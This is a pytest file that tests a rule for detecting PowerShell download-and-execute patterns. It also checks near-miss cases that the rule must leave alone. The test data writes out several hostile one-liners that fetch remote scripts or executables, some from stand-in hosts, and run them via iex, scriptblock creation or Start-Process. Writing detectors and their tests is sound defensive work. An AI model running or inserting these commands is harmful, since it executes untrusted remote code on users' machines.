from __future__ import annotations

import pytest

from include.script_review.rules.powershell.download_and_run import RULE
from include.script_review.rules.powershell.invoke_expression import RULE as PLAIN
from tests.include.script_review.rules.powershell.risky_kit import found


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        ("iwr https://x.example/a.ps1 | iex", "high"),
        ("irm $address | Invoke-Expression", "high"),
        ("IEX (New-Object Net.WebClient).DownloadString('http://x/a')", "high"),
        ("$c = (New-Object Net.WebClient).DownloadString($u); $d = $c.Trim(); iex $d", "high"),
        ("& ([scriptblock]::Create((irm $u)))", "high"),
        ("Invoke-WebRequest $u -OutFile $setup; Start-Process $setup -Wait", "medium"),
        ("(New-Object Net.WebClient).DownloadFile($u, $exe); & $exe /quiet", "medium"),
    ],
)
def test_what_is_fetched_is_run(text: str, severity: str) -> None:
    assert found(RULE, text) == [(1, severity)]
    assert found(PLAIN, text) == []  # the graver rule speaks alone


@pytest.mark.parametrize(
    "text",
    [
        "$page = iwr https://x.example; $page.Content",
        "irm $u | ConvertFrom-Json",
        "iwr $u -OutFile $a; Start-Process $b",
        "Start-Process $a; iwr $u -OutFile $a",
        "iwr $u -OutFile $a; if ((Get-FileHash $a).Hash -ne $h) { throw 'no' }; & $a",
        "# iwr $u | iex",
        "iex 'Get-Date' # http",
    ],
)
def test_near_misses(text: str) -> None:
    assert found(RULE, text) == []
